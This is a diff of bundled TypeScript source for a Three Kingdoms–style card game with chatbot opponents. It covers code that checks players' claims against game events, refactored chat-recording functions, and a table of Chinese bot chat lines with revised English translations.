 const BY_NAMES = "玄德刘备 刘皇叔刘备 云长关羽 关二爷关羽 翼德张飞 孟德曹操 曹丞相曹操 仲谋孙权 孔明诸葛亮 卧龙诸葛亮 子龙赵云 孟起马超 汉升黄忠 奉先吕布 温侯吕布 公瑾周瑜 伯言陆逊 子明吕蒙 伯符孙策 子义太史慈 兴霸甘宁 公覆黄盖 奉孝郭嘉 文若荀彧 文和贾诩 仲达司马懿 文远张辽 元让夏侯惇 妙才夏侯渊 仲康许褚 公明徐晃 士元庞统 凤雏庞统 伯约姜维 文长魏延 本初袁绍 公路袁术 仲颖董卓 子敬鲁肃 黄须儿曹彰 幼常马谡 元直徐庶 士载邓艾 士季钟会 子桓曹丕 子建曹植 阿斗刘禅 公琰蒋琬 文伟费祎 休昭董允 子布张昭 子瑜诸葛瑾 季常马良 宪和简雍 子仲糜竺 公台陈宫 元龙陈登 文台孙坚 元皓田丰 正南审配 仲德程昱 公仁董昭 曼成李典 文谦乐进 文则于禁 儁乂张郃 令明庞德 子廉曹洪 子孝曹仁 文烈曹休 子丹曹真 昭伯曹爽 太初夏侯玄 子元司马师 子上司马昭 安世司马炎 伯然赵俨 机伯伊籍 景升刘表 伯珪公孙瓒 郭女王郭皇后 郭女王郭照 甄姬甄宓 洛神甄姬 洛神甄宓";
 function bySayings(named) {
 	return BY_NAMES.split(" ").flatMap((row) => {
@@ -22672,6 +22681,175 @@ function remindersOf(brought, scene, speaker, stated) {
 	return reminders;
 }
 
+// src/chatter/moves/record.ts
+const KINDS4 = {
+	strike: ["aimed", "hit", "death"],
+	attack: ["hit", "aimed", "dying"],
+	kill: ["death"],
+	discard: ["discard", "aimed"],
+	steal: ["steal", "aimed"],
+	wuxie: ["wuxie"],
+	save: ["rescue", "heal", "wuxie", "aimed"],
+	protect: ["wuxie", "rescue", "heal", "give", "draw", "aimed"],
+	heal: ["heal", "rescue", "aimed"],
+	give: ["give", "draw", "heal", "rescue", "aimed"],
+	use: ["aimed", "hit", "discard", "steal", "wuxie"],
+	throw: ["throw"],
+	die: ["death"],
+	low: ["dying"]
+};
+const BY_USE = {
+	discard: ["guohe"],
+	steal: ["shunshou"],
+	heal: ["tao", "jiu"],
+	save: ["tao", "jiu"],
+	protect: ["tao", "jiu"],
+	give: ["tao", "jiu"]
+};
+function bearsOut2(verb, { kind, card }) {
+	const cards = kind === "aimed" ? BY_USE[verb] : void 0;
+	return KINDS4[verb].includes(kind) && (cards === void 0 || card !== null && cards.includes(card));
+}
+const NO_BLOW = new Set(["guohe", "shunshou", "lebu", "bingliang", "tiesuo", "tao", "jiu"]);
+const USED_TO_GIVE = new Set(["tao", "jiu"]);
+const sameCard = ({ named: read }, named, card) => card === named || card !== null && read(card) === read(named);
+const is = (party, seat) => typeof party !== "number" || party === seat;
+function fits({ verb, card, object, hurt, against }, fact, scene) {
+	if (hurt && fact.kind !== "hit" && fact.kind !== "dying") return false;
+	if (against !== void 0 && !is(against, (card === "wuxie" ? fact.over : fact.against) ?? null)) return false;
+	switch (verb) {
+		case "strike":
+			return fact.kind === "death" || fact.good !== true && sameCard(scene, card ?? "sha", fact.card);
+		case "attack":
+			if (card !== null) return sameCard(scene, card, fact.card);
+			return fact.kind !== "aimed" || fact.good !== true && !NO_BLOW.has(fact.card ?? "");
+		case "discard":
+		case "steal":
+			if (fact.kind === "aimed") return !object && fact.card === (verb === "discard" ? "guohe" : "shunshou");
+			return !object || fact.card === card;
+		case "wuxie":
+			return card === null || card === "wuxie" || sameCard(scene, card, fact.card);
+		case "save":
+		case "protect":
+		case "heal":
+			return fact.good === true && (card === null || fact.kind === "wuxie" || sameCard(scene, card, fact.card));
+		case "give":
+			if (isHandover(fact)) return card === null;
+			return card !== null && USED_TO_GIVE.has(card) && sameCard(scene, card, fact.card);
+		case "use":
+			return card !== null && (fact.kind !== "wuxie" || card === "wuxie") && sameCard(scene, card, fact.card);
+		case "throw":
+		case "kill":
+		case "die":
+		case "low":
+			return true;
+	}
+}
+function isThen(when, { turn, round }, scene) {
+	if (when === null) return true;
+	const lap = scene.table.seats.length;
+	const now = { turn: scene.turn, round: scene.table.round };
+	switch (when.which) {
+		case "turn":
+			return turn === when.n || round === when.n;
+		case "round":
+			return round === when.n;
+		case "this_turn":
+			return turn === now.turn || turn === now.turn - 1;
+		case "last_turn":
+		case "last_round":
+			return turn >= now.turn - lap && (turn < now.turn || round < now.round || when.which === "last_round");
+		case "this_round":
+			return round === now.round || turn > now.turn - lap;
+		case "start":
+			return round <= 1;
+	}
+}
+function factsOf2(deed, scene) {
+	const kinds = KINDS4[deed.verb];
+	return scene.facts.filter(
+		(fact) => kinds.includes(fact.kind) && is(deed.by, fact.by) && is(deed.to, fact.to) && fits(deed, fact, scene) && isThen(deed.when, fact, scene)
+	);
+}
+function sumOf(found, of, verb) {
+	if (of === "points")
+		return found.filter(({ kind }) => kind === "hit" || kind === "heal").reduce((sum, { num }) => sum + num, 0);
+	if (of === "cards") {
+		const moved = found.filter(({ kind }) => kind === "steal" || kind === "discard" || kind === "give");
+		return moved.reduce((sum, { num }) => sum + Math.max(1, num), 0);
+	}
+	return Math.max(0, ...KINDS4[verb].map((kind) => found.filter((fact) => fact.kind === kind).length));
+}
+function plainestOf(found, verb) {
+	const last = found[found.length - 1];
+	if (!last) return void 0;
+	const rank = ({ kind }) => verb === "strike" && kind === "death" ? -1 : KINDS4[verb].indexOf(kind);
+	return found.filter(({ turn, by, to }) => turn === last.turn && by === last.by && to === last.to).reduce((best, fact) => rank(fact) <= rank(best) ? fact : best);
+}
+function usesOf({ verb, card, by, to, when, hurt, against }, scene) {
+	const named = card ?? (verb === "strike" ? "sha" : null);
+	if (hurt || against !== void 0 || verb === "wuxie" && card !== null && card !== "wuxie") return [];
+	if (verb === "wuxie")
+		return scene.uses.filter(
+			(use) => use.name === "wuxie" && is(by, use.by) && use.by !== to && (is(to, use.to[0] ?? null) || is(to, use.against ?? null)) && isThen(when, use, scene)
+		);
+	if (named === null || !["strike", "attack", "use"].includes(verb)) return [];
+	return scene.uses.filter(
+		(use) => use.name === named && is(by, use.by) && (typeof to !== "number" || use.to.includes(to)) && isThen(when, use, scene)
+	);
+}
+function fellTo({ verb, card, by, to, when }, scene) {
+	if (verb !== "attack" && verb !== "use" || card === null || typeof by !== "number" || typeof to !== "number")
+		return void 0;
+	const use = scene.uses.filter((one) => one.name === card && one.by === by && one.to.includes(to)).pop();
+	return use && scene.facts.find(
+		(fact) => fact.kind === "hit" && fact.to === to && fact.card === card && fact.turn === use.turn && isThen(when, fact, scene)
+	);
+}
+const handedUnseen = ({ verb, card, by, to, when }, scene) => verb === "give" && card !== null && scene.facts.some((fact) => fact.kind === "give" && is(by, fact.by) && is(to, fact.to) && isThen(when, fact, scene));
+const standsSo = ({ verb, by, to }, scene) => {
+	const seat = typeof to === "number" ? seatOf(scene, to) : void 0;
+	return seat !== void 0 && (verb === "low" && seat.alive && seat.hp <= 1 || verb === "die" && typeof by !== "number" && !seat.alive);
+};
+const reported = (deed, kind, verdict, found) => ({
+	kind,
+	...typeof deed.by === "number" ? { by: deed.by } : {},
+	...typeof deed.to === "number" ? { to: deed.to } : {},
+	...deed.card === null ? {} : { card: deed.card },
+	...found ? { turn: found.turn } : saidTurn(deed),
+	verdict,
+	...found?.id !== void 0 ? { fact: found.id } : {}
+});
+const saidTurn = ({ when }) => when?.which === "turn" ? { turn: when.n } : {};
+function reportOf(said, scene) {
+	const share = said.against !== void 0 && said.to === "open" && factsOf2(said, scene).length === 0;
+	const { against, ...rest } = said;
+	const deed = share && against !== void 0 && factsOf2({ ...rest, to: against }, scene).length > 0 ? { ...rest, to: against } : said;
+	const [plainest] = KINDS4[deed.verb];
+	if (deed.by === "nobody" || deed.to === "nobody") return reported(deed, plainest, deed.denied ? "true" : "false");
+	const told = factsOf2(deed, scene);
+	const burnt = told.length === 0 && deed.verb === "use" && deed.card === "huogong" && typeof deed.to === "number";
+	const found = burnt ? factsOf2({ ...deed, verb: "attack", card: null, hurt: true }, scene) : told;
+	const fact = plainestOf(found, deed.verb) ?? fellTo(deed, scene);
+	const use = fact ? void 0 : usesOf(deed, scene).pop();
+	if (deed.denied)
+		return {
+			...reported(deed, fact?.kind ?? plainest, fact || use ? "false" : "true"),
+			denied: true,
+			...fact ? { less: [fact.id] } : {}
+		};
+	const counts = deed.counted && fact ? sumOf(found, deed.counted.of, deed.verb) : 0;
+	if (deed.counted && fact && counts < deed.counted.many && (counts > 0 || deed.counted.of === "times"))
+		return { ...reported(deed, fact.kind, "false"), less: found.map(({ id }) => id) };
+	if (fact) return reported(deed, fact.kind, "true", { turn: fact.turn, id: fact.id });
+	if (use) return reported(deed, "aimed", "true", { turn: use.turn });
+	const taken = deed.verb === "steal" && !deed.object ? factsOf2({ ...deed, verb: "give", by: deed.to, to: deed.by, card: null }, scene).pop() : void 0;
+	if (taken && deed.counted === void 0 && typeof deed.to === "number")
+		return reported(deed, "steal", "true", { turn: taken.turn, id: taken.id });
+	if (standsSo(deed, scene)) return reported(deed, plainest, "true");
+	return reported(deed, plainest, handedUnseen(deed, scene) ? "unknown" : "false");
+}
+
 // src/chatter/plan/deeds.ts
 const ACTS2 = new Set([
 	"aimed",
@@ -22715,6 +22893,15 @@ function reasonsFor3(scene, view, about, role) {
 	return [...bad.slice(0, 1), ...good.slice(0, 1)];
 }
 const harmOf = (scene, seat) => scene.facts.filter((fact) => fact.by === seat && fact.to !== seat && isHarm(fact) && !isOpenRebel(scene, fact.to)).reverse();
+function deedsOf(about, when, scene, whom = null) {
+	const own = scene.facts.filter(
+		({ by, to, kind }) => by === about && to !== about && (whom === null || to === whom) && kind !== "dying" && kind !== "throw"
+	);
+	if (when !== null) return own.filter((fact) => isThen(when, fact, scene)).slice(-MOST_TOLD2);
+	const last = own[own.length - 1];
+	return own.filter(({ turn }) => turn === last?.turn).slice(-MOST_TOLD2);
+}
+const MOST_TOLD2 = 3;
 
 // src/converse/slant.ts
 const CONTRARY = 0.3;
@@ -22789,23 +22976,6 @@ function lookOf2({ identity, confidence }) {
 	if (confidence < LEANING2) return "unknown";
 	if (identity === "fan") return confidence >= UNDENIABLE ? "plain" : "fan";
 	return identity === "zhong" || identity === "nei" ? identity : "unknown";
-}
-
-// src/converse/chat/record.ts
-function write({ game }, seat, text, more = {}) {
-	if (!game || seat === null || game.session.recorder.finished()) return false;
-	game.session.accept({ type: "chat", seat, text, ...more });
-	return true;
-}
-function record3(chat, seat, line, more = {}, told = null) {
-	const { game, options } = chat;
-	if (!write(chat, seat, line.raw, more) || !game || seat === null || !options.settings.chat().claims) return;
-	for (const event of weighWords(game.conversation, seat, line, more.to ?? null)) game.session.accept(event);
-	if (told === null) return;
-	for (const event of weighReports(game.conversation, seat, line, told)) game.session.accept(event);
-	if ("moves" in told) return;
-	for (const weighed of [weighAnswer(game.conversation, told), weighPact(told)])
-		if (weighed) game.session.accept(weighed);
 }
 
 // src/converse/bubbles.ts
@@ -22902,6 +23072,52 @@ function remember({ memory, game }) {
 	if (game) memory.store(game.conversation.talk.relations());
 }
 
+// src/converse/chat/record.ts
+function notesOf({ occasion, to, claims, content: { move, about, role }, answers }, { lines }) {
+	const number = answers === null ? void 0 : lines.numbers.get(answers);
+	return {
+		for: occasion,
+		...to === null ? {} : { to },
+		...claims.length > 0 ? { claims } : {},
+		move,
+		...about === void 0 ? {} : { about },
+		...role === void 0 ? {} : { role },
+		...number === void 0 ? {} : { answers: number }
+	};
+}
+function write({ game }, seat, text, more = {}) {
+	if (!game || seat === null || game.session.recorder.finished()) return false;
+	game.session.accept({ type: "chat", seat, text, ...more });
+	return true;
+}
+function record3(chat, seat, line, more = {}, told = null) {
+	const { game } = chat;
+	if (!write(chat, seat, line.raw, more) || !game || seat === null) return false;
+	weigh5(chat, game, seat, line, more.to ?? null, told);
+	return true;
+}
+function recordPerson(chat, line, heard) {
+	const to = heard?.addressed[0]?.seat;
+	const written = record3(chat, personIn(chat), line, to === void 0 ? {} : { to }, heard);
+	if (written) number2(chat, heard?.entry ?? null);
+}
+function writePerson(chat, text) {
+	if (write(chat, personIn(chat), text)) number2(chat, null);
+}
+function number2({ game }, entry) {
+	if (!game) return;
+	game.lines.written += 1;
+	if (entry !== null) game.lines.numbers.set(entry, game.lines.written);
+}
+function weigh5({ options }, { conversation, session }, seat, line, to, told) {
+	if (!options.settings.chat().claims) return;
+	for (const event of weighWords(conversation, seat, line, to)) session.accept(event);
+	if (told === null) return;
+	for (const event of weighReports(conversation, seat, line, told)) session.accept(event);
+	if ("moves" in told) return;
+	for (const weighed of [weighAnswer(conversation, told), weighPact(told)]) if (weighed) session.accept(weighed);
+}
+
 // src/converse/chat/speak.ts
 function tick(chat) {
 	safely(chat, () => {
@@ -22910,10 +23126,9 @@ function tick(chat) {
 		if (!game || !speech) return;
 		const at = chat.options.now();
 		for (const said of game.conversation.due(at, speech.deciding())) {
-			const { speaker, to, text, bubbles: pieces, gesture, occasion, claims } = said;
+			const { speaker, to, text, bubbles: pieces, gesture } = said;
 			bubbles.add(speaker, pieces, at);
-			const notes = { for: occasion, ...to === null ? {} : { to }, ...claims.length > 0 ? { claims } : {} };
-			record3(chat, speaker, readLine(text), notes, said);
+			record3(chat, speaker, readLine(text), notesOf(said, game), said);
 			const [by, aim] = [playerAt(chat, speaker), to === null ? void 0 : playerAt(chat, to)];
 			if (gesture && by && aim) speech.throwAt(by, aim, gesture);
 			changed(chat);
@@ -22938,7 +23153,6 @@ function hear4(chat, text) {
 		options: { care, inactive }
 	} = chat;
 	if (!game || inactive() !== null) return true;
-	const { session } = game;
 	const line = readLine(text);
 	const perceived = perceivedIn(chat, line);
 	let taken = care.takes(perceived?.crisis.score ?? null, line);
@@ -22947,9 +23161,9 @@ function hear4(chat, text) {
 		const heard = head && answer2(chat, game, head);
 		const words = head?.line ?? readLine(text.slice(0, LONGEST_HEARD2));
 		if (heard?.withheld) taken = "withheld";
-		else record3(chat, session.me(), words, heard?.addressed[0] ? { to: heard.addressed[0].seat } : {}, heard ?? null);
+		else recordPerson(chat, words, heard ?? null);
 	} else if (taken === "quiet") {
-		write(chat, session.me(), text.slice(0, LONGEST_HEARD2));
+		writePerson(chat, text.slice(0, LONGEST_HEARD2));
 	}
 	if (taken === "withheld") hush(chat);
 	else remember(chat);
@@ -23276,7 +23490,7 @@ const THING_BEFORE = new RegExp(
 const DENIED4 = /(?:不是(?:故意|有意|成心|真)?|并非|没说|没有说|没骂|别骂|不要骂|不算|没|别说|别叫)(?:要|想)?(?:你|我|他|谁|人)?(?:是|叫|个)?$|\b(?:didn't mean to|not|isn't|aren't|never said) (?:you (?:are|were) )?(?:a |an )?$/;
 const YOU2 = /你|您|\b(?:you|u|ur|your)\b/;
 const MENTION = /^(?:"|是什么意思|这个词|这俩字|怎么写|是骂人)/;
-function weigh5(line, finding) {
+function weigh6(line, finding) {
 	const { text } = line;
 	const words = text.slice(finding.start, finding.end);
 	const before = text.slice(Math.max(0, finding.start - 10), finding.start);
@@ -23310,7 +23524,7 @@ function judgeHostility(line, opinion) {
 	let counted = 0;
 	for (const kind of ["curse", "gamecurse", "banter", "suspect"]) {
 		for (const finding of line.findings.get(kind) ?? []) {
-			const weighed = weigh5(line, finding);
+			const weighed = weigh6(line, finding);
 			const { at } = weighed;
 			let { score } = weighed;
 			if (kind === "gamecurse" && at === "you" && !line.game && !line.play && /去死/.test(line.text) && /你(?:怎么|就|给我|赶紧|快|还是|可以)?(?:不)?去死|去死吧?你/.test(line.text))
@@ -24124,46 +24338,46 @@ const OCCASIONS2 = [
 ];
 const LINES = String.raw`shared
 greet		今日请多指教。	Here's to a good game.
-		又凑一桌。	Another table, then.
-		久等了。	Sorry to keep you.
+		又凑一桌。	Together for another game.
+		久等了。	Sorry to keep you waiting.
 bye		后会有期。	Until next time.
 		保重。	Take care.
 thanks		不用谢。	You're welcome.
-		下回你请。	Your turn next time.
+		下回你请。	Next time it's on you.
 apology		没放心上。	No harm done.
-		一笔勾销。	The slate is clean.
+		一笔勾销。	Let's call it even.
 praise		谢夸。	Thanks for that.
-		还差得远。	There's far to go yet.
+		还差得远。	I've a long way to go yet.
 blame		下次注意。	I'll mind it next time.
 		局还没完。	The game isn't over.
-		各有各的打法。	To each their own way.
-taunt		打完再笑。	Laugh when it's done.
+		各有各的打法。	Everyone plays their own way.
+taunt		打完再笑。	Save the laughing for the end.
 		别高兴太早。	Don't cheer too soon.
 		我等着。	I'm waiting.
 accuse		话别说太满。	Don't be so sure.
-		看我怎么打。	See how I play.
+		看我怎么打。	Watch how I play.
 		凭据拿来。	Show some proof.
 ask_role		不能说。	That I can't say.
 		往后看。	Keep watching.
-		天机。	A secret of heaven.
-ask_guess	guess	我猜{who}，{role}。	I guess {who}: {role}.
-	guess	{who}吧，像{role}。	{who}, perhaps. Reads like {role}.
-	noguess	还看不出。	Nothing to see yet.
+		天机。	That's a secret.
+ask_guess	guess	我猜{who}，{role}。	I'd guess {who} is {role}.
+	guess	{who}吧，像{role}。	{who}, perhaps. Looks like {role}.
+	noguess	还看不出。	I can't tell yet.
 	noguess	谁都说不准。	Could be anyone.
 ask_why		自有道理。	I had my reasons.
-		局势如此。	So the game stood.
+		局势如此。	The situation called for it.
 ask_help		看时机。	When the time is right.
 		记下了，再说。	Noted, for later.
 ask_act		我自己拿主意。	I'll decide that.
 		再想想。	Let me think.
-claim_loyal		听着了。	So I hear.
-		日久见人心。	Time shows the heart.
-claim_other		真假难说。	Hard to say if it's so.
+claim_loyal		听着了。	I hear you.
+		日久见人心。	Time will tell.
+claim_other		真假难说。	Hard to say if that's true.
 		有意思。	Interesting.
-point_at	guess:fan	{who}，我也疑。	{who}: I suspect it too.
-	guess:zhong	{who}不像吧。	{who} doesn't seem the type.
+point_at	guess:fan	{who}，我也疑。	I suspect {who} too.
+	guess:zhong	{who}不像吧。	{who} doesn't seem like the type.
 		有几分道理。	There's something in that.
-		多看一轮。	Give it another turn.
+		多看一轮。	Give it another round.
 joke		笑死人了。	That's too funny.
 		这个好。	That's a good one.
 small_talk		今天牌不错。	The cards are kind today.
@@ -24173,249 +24387,249 @@ hurry		马上。	In a moment.
 		快了快了。	Nearly there.
 sorrow	tone:gentle	慢慢来。	Take it slow.
 		歇一会儿吧。	Take a little rest.
-affection		心意领了。	I take it kindly.
+affection		心意领了。	That's kind of you.
 	close	我也是。	So do I.
 agree		说得对。	True enough.
 		就是这样。	That's how it is.
-		想到一起了。	My thought as well.
+		想到一起了。	I was thinking the same.
 unclear		怎么说？	How do you mean?
-		没听明白。	I missed that.
-		说清楚些。	More clearly, please.
+		没听明白。	I didn't catch that.
+		说清楚些。	Could you be clearer?
 ack		记下了。	Noted.
 		明白。	Understood.
 		听到了。	I heard you.
 boundary_soft		这话过了。	That goes too far.
 		说点别的。	Something else, please.
-		留点分寸。	A little restraint.
+		留点分寸。	Show a little restraint.
 boundary_firm		请别再说。	Please stop this.
 		这条线别过。	Don't cross that line.
-		到此为止。	This ends here.
+		到此为止。	That's enough now.
 boundary_leave		先不说话了。	I'll stop talking now.
 		只打牌，不聊。	Just cards, no chat.
-refuse_control		我说我的话。	I talk as I talk.
+refuse_control		我说我的话。	I talk the way I talk.
 		这个不改。	That won't change.
-sarcasm_ky		不合时宜吧。	Not quite the moment.
-		先看看场面。	Look at the table first.
-		现在说这个？	You say that now?
-sarcasm_boring		就这些？	Nothing else?
-		话真少。	Few words indeed.
-		没了？	That's all of it?
+sarcasm_ky		不合时宜吧。	This isn't the moment.
+		先看看场面。	Read the room first.
+		现在说这个？	You're saying that now?
+sarcasm_boring		就这些？	Is that everything?
+		话真少。	You don't say much.
+		没了？	Nothing more?
 confusion		没跟上。	I lost the thread.
-		这是哪一出？	What play is this from?
+		这是哪一出？	What's this all about?
 		慢点说。	Slower, please.
 game_start		开局了。	The game is on.
-		各凭本事。	May skill decide.
-		牌来。	Let the cards come.
+		各凭本事。	May the best player win.
+		牌来。	Deal the cards.
 lord_first_attacked		{by}先动了主公。	{by} struck the lord first.
 		主公挨打了。	The lord's been hit.
 lord_saved		{by}救了主公。	{by} saved the lord.
-		主公缓过来了。	The lord is back.
+		主公缓过来了。	The lord is back up.
 lord_low		主公快不行了。	The lord is nearly down.
 		主公危险。	The lord is in danger.
-		主公血见底了。	The lord's life is at the bottom.
+		主公血见底了。	The lord is almost out of health.
 hit_by_lord		主公看清再打。	Look before you strike, my lord.
 		主公打我做什么？	Why me, my lord?
 hit_me		{by}，打我做什么？	Why hit me, {by}?
 		这一下记着。	I'll remember that one.
-		{by}出手了。	So {by} strikes.
-hit_me_again		{by}还没打够？	Not enough yet, {by}?
+		{by}出手了。	So {by} has attacked.
+hit_me_again		{by}还没打够？	Not done yet, {by}?
 		又打我。	Me again.
-saved_me		多谢{by}救命。	{by}, thanks for my life.
-		捡回一条命。	I got my life back.
+saved_me		多谢{by}救命。	Thanks for saving me, {by}.
+		捡回一条命。	That saved my life.
 		{by}，这情我记着。	I'll remember this, {by}.
 healed_me		多谢{by}。	Many thanks, {by}.
 		缓过来了。	That feels better.
 wuxie_for_me		{by}，谢了。	Thanks for that, {by}.
-		挡得及时。	A timely block.
-wuxie_against_me		{by}懈我？	{by}, you cancel mine?
-		这一懈够狠。	That denial hurt.
-taken_from_me		{by}拿我的牌。	{by} takes my card.
-		少了一张。	One card less.
+		挡得及时。	A block just in time.
+wuxie_against_me		{by}懈我？	You nullified mine, {by}?
+		这一懈够狠。	That Nullification hurt.
+taken_from_me		{by}拿我的牌。	{by} took my card.
+		少了一张。	One card fewer.
 freed_me		多谢{by}解围。	{by}, thanks for freeing me.
 		总算解开了。	Free at last.
-given_to_me		{by}，我收下了。	{by}, I accept.
-		来得及时。	That comes in time.
+given_to_me		{by}，我收下了。	I'll take it, {by}.
+		来得及时。	That came just in time.
 i_killed		{to}，得罪了。	No offence, {to}.
-		先送{to}下场。	{to} leaves first.
-death_expected		{to}是{role}，没错吧。	{to} was {role}, as guessed.
-		{to}，猜着了。	Guessed you right, {to}.
+		先送{to}下场。	{to} goes first.
+death_expected		{to}是{role}，没错吧。	{to} was {role}, as I guessed.
+		{to}，猜着了。	I guessed {to} right.
 		果不其然。	Just as expected.
 death_surprise		{to}是{role}？	{to} was {role}?
-		没看出来。	I never saw it.
-		猜错{to}了。	Wrong about {to}.
-death_seen		{to}走了，是{role}。	{to} is out: {role}.
+		没看出来。	I never saw that coming.
+		猜错{to}了。	I was wrong about {to}.
+death_seen		{to}走了，是{role}。	{to} is out, and was {role}.
 		{to}倒了。	{to} has fallen.
 		又少一位。	One fewer now.
 rescue_seen		{by}救了{to}。	{by} rescued {to}.
-		救得及时。	A timely rescue.
+		救得及时。	A rescue just in time.
 second_rebel_dead		反贼又倒一个。	Another rebel falls.
 		局势变了。	The balance has changed.
-two_left		就剩两个人了。	Only two are left.
-		最后一场。	The last bout.
-big_group		{by}打了一片。	{by} hit them all.
+two_left		就剩两个人了。	Only two left.
+		最后一场。	One last fight.
+big_group		{by}打了一片。	{by} hit everyone.
 		好大阵仗。	Quite a spectacle.
 i_am_dying		谁有桃？	Who has a peach?
 		要倒了。	I'm going down.
-		救一手。	A hand, please.
-last_words		先走一步。	I leave first.
+		救一手。	Somebody help me.
+last_words		先走一步。	I'm off first.
 		你们继续。	Play on without me.
 		下局见。	See you next game.
 won		打得不错。	Well played.
 		赢了就好。	A win is a win.
-lost		输了，认。	Lost, and I own it.
+lost		输了，认。	We lost, fair enough.
 		下把再来。	Next time, then.
 suspect		{who}怕是{role}。	{who} may be {role}.
-		我疑{who}，{role}味重。	I suspect {who}: it smells like {role}.
+		我疑{who}，{role}味重。	I suspect {who}. Smells like {role}.
 got_flower	flower	谢{by}的花。	Thanks for the flower, {by}.
-	flower	花不错。	A nice flower.
+	flower	花不错。	Nice flower.
 got_egg	egg	{by}扔我蛋。	{by} egged me.
-	egg	这蛋谁洗？	Who cleans up this egg?
+	egg	这蛋谁洗？	Who's going to clean up this egg?
 got_flower		多谢{by}好意。	Kind of you, {by}.
-		好意我收下。	I take it gladly.
+		好意我收下。	I'll gladly take it.
 got_egg		{by}扔我？	Throwing things, {by}?
 		扔得挺准。	Good aim.
 answer_ai		{you}说得有理。	{you} has a point.
-		{you}，话别太满。	Not so sure, {you}.
-		各说各的吧。	To each their opinion.
+		{you}，话别太满。	I'm not so sure, {you}.
+		各说各的吧。	Everyone has an opinion.
 courtly
 greet		幸会，{you}。愿此局尽兴。	Well met, {you}. May we both enjoy the game.
-		诸位安好，在下有礼了。	Good day to you all; my respects.
+		诸位安好，在下有礼了。	Good day to you all, and my respects.
 	close	又与{you}同席，实乃快事。	To share a table with {you} again is a pleasure.
-bye		山高水长，就此别过。	The road is long; here we part in good order.
+bye		山高水长，就此别过。	The road is long, and here we part.
 	close	来日再叙，{you}珍重。	Until we speak again, {you}. Keep well.
-thanks		举手之劳，不足挂齿。	A trifle. Pray do not mention it.
+thanks		举手之劳，不足挂齿。	It was nothing. Please don't mention it.
 		阁下言重了。	You make too much of it, truly.
-apology		些许小事，在下早已忘却。	So small a thing; I have already forgotten it.
-		知过能言，难得。此事揭过。	To own a fault is rare. Let us call it closed.
-praise		过誉了，不过侥幸。	You flatter me. It was chance, mostly.
+apology		些许小事，在下早已忘却。	Such a small thing. I have already forgotten it.
+		知过能言，难得。此事揭过。	It is rare to own up so frankly. Let us call it settled.
+praise		过誉了，不过侥幸。	You flatter me. It was mostly luck.
 		阁下谬赞，在下愧领。	I accept the compliment, with some blushes.
-blame		阁下责备的是，容我三思。	Your reproach is heard; let me reflect on it.
-		落子无悔，得失自担。	A stone once placed stays placed. I bear the cost.
-		此中自有缘由，且看后手。	There was a reason. Pray watch what follows.
+blame		阁下责备的是，容我三思。	Your criticism is fair. Let me reflect on it.
+		落子无悔，得失自担。	What is played is played. I bear the cost.
+		此中自有缘由，且看后手。	There was a reason. Do watch what follows.
 	apart	言至于此，多辩无益。	Since it has come to this, I shall not argue.
-taunt		口舌之利，不如牌上见分晓。	Sharp words are cheap; let the cards decide.
+taunt		口舌之利，不如牌上见分晓。	Sharp words are cheap. Let the cards decide.
 		阁下好兴致，在下静候高招。	You are in fine spirits. I await your masterstroke.
-		胜负未分，何必言早？	Nothing is settled yet; why crow so early?
+		胜负未分，何必言早？	Nothing is settled yet. Why celebrate so early?
 accuse		是非曲直，看在下如何出牌便知。	Judge me by how I play, not by what is said of me.
-		阁下多疑，在下不怪。	You suspect me; I take no offence.
+		阁下多疑，在下不怪。	You suspect me, and I take no offence.
 		空言难辨真伪，日久自见。	Words prove little. Time will prove the rest.
 ask_role		此事说破，便无趣了。	To say it aloud would spoil the evening.
 		阁下慧眼，何须问我？	With eyes like yours, why ask me?
 		观其行，勿听其言，可好？	Watch what I do and never mind what I say. Agreed?
 ask_guess	guess	依在下浅见，{who}似是{role}。	In my humble view, {who} seems to be {role}.
 	guess certain	{who}乃{role}，几可断言无疑。	{who} is {role}. I would say so beyond doubt.
-	noguess	局势未明，不敢妄断。	The field is misty yet; I dare not pronounce.
+	noguess	局势未明，不敢妄断。	Things are still unclear, and I would not presume.
 	noguess	容在下再观一轮。	Allow me to observe one more round.
 	guess	疑{who}者，在下其一：或许{role}。	Count me among those who suspect {who}: perhaps {role}.
-	guess	若论可疑，当推{who}，恐怕是{role}。	If one is doubtful it is {who}, likely {role}.
+	guess	若论可疑，当推{who}，恐怕是{role}。	If anyone looks suspicious, it is {who}, likely {role}.
 ask_why		形势所迫，情非得已。	The position left me little choice.
-		棋到此处，不得不然。	At this point of the game, it had to be so.
+		棋到此处，不得不然。	At that point in the game, it had to be done.
 ask_help		若得其便，自当斟酌。	If the chance comes, I shall weigh it with care.
 		阁下之请，在下记在心上。	Your request is noted, and not lightly.
-ask_act		良策可听，取舍在我。	Good counsel is welcome; the choice stays mine.
+ask_act		良策可听，取舍在我。	Good advice is welcome, but the choice stays mine.
 		阁下指点，在下自会权衡。	I thank you for the hint and will weigh it.
 claim_loyal		阁下之言，在下且听，亦且看。	I hear you, and I shall also be watching.
-		忠心二字，重在行而不在言。	Loyalty is a thing of deeds, rarely of words.
+		忠心二字，重在行而不在言。	Loyalty shows in deeds, rarely in words.
 claim_other		敢直言者少，姑且记下。	Few speak so plainly. I shall remember it.
-		虚实难料，容我细思。	It may be truth or feint. Let me think it over.
-point_at	guess:fan	英雄所见略同，{who}确似可疑。	We think alike: {who} does seem doubtful.
+		虚实难料，容我细思。	It may be the truth or a bluff. Let me think it over.
+point_at	guess:fan	英雄所见略同，{who}确似可疑。	We think alike: {who} does seem suspicious.
 	guess:zhong	未必吧，{who}看着倒似忠厚。	Not so fast. {who} looks honest enough to me.
-	noguess	指认容易，举证难。	To point is easy; to prove is another matter.
+	noguess	指认容易，举证难。	Pointing is easy. Proving it is another matter.
 		兼听则明，再看一巡。	Let us hear all sides and watch one more turn.
 joke		妙语解颐，当浮一大白。	Wittily said. That deserves a full cup.
 		阁下诙谐，席间生辉。	Your humour brightens the table.
 small_talk		牌局之外，清谈亦佳。	Cards aside, good conversation is its own prize.
-		闲话家常，亦是雅事。	Idle talk, well made, is an art too.
-		此时若有清茶一盏，便圆满了。	A cup of clear tea now, and nothing would be wanting.
-	close	与{you}闲谈，胜过十局牌。	Talking with {you} is worth ten games won.
-hurry		兵贵神速，更贵周详。	Speed is good in war; care is better.
-		失礼了，容在下片刻。	My apologies; grant me one moment.
+		闲话家常，亦是雅事。	Good small talk is an art too.
+		此时若有清茶一盏，便圆满了。	A cup of good tea now, and all would be perfect.
+	close	与{you}闲谈，胜过十局牌。	A chat with {you} is worth ten wins.
+hurry		兵贵神速，更贵周详。	Speed is good in war. Care is better.
+		失礼了，容在下片刻。	My apologies. Just one moment, please.
